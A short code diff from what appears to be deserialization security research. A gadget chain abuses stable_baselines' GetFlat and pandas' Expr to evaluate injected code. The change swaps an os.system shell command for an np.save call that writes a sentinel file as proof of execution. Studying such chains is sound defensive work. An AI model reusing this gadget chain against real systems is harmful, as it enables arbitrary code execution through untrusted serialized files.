@@ -174,9 +174,9 @@ def pandas_eval_via_our_gadget(sentinel: str) -> bytes:
     """
     Mechanism 2 through mechanism 1: GetFlat calls ``sess.run(operation)`` with sess.run the pandas class
     ``Expr``, which parses *and evaluates* its string argument, resolving names in the caller's globals (those of
-    stable_baselines.common.tf_util, which imports ``os``).
+    the module defining GetFlat, which imports numpy as ``np``: ``np.save`` writes the sentinel file).
     """
-    code = "os.system('touch {}')".format(sentinel)
+    code = "np.save('{}', 0)".format(sentinel)
     return instance(TF_UTIL, "GetFlat", sess=bag(run=glob("pandas.core.computation.expr", "Expr")),
                     operation=s(code))
 
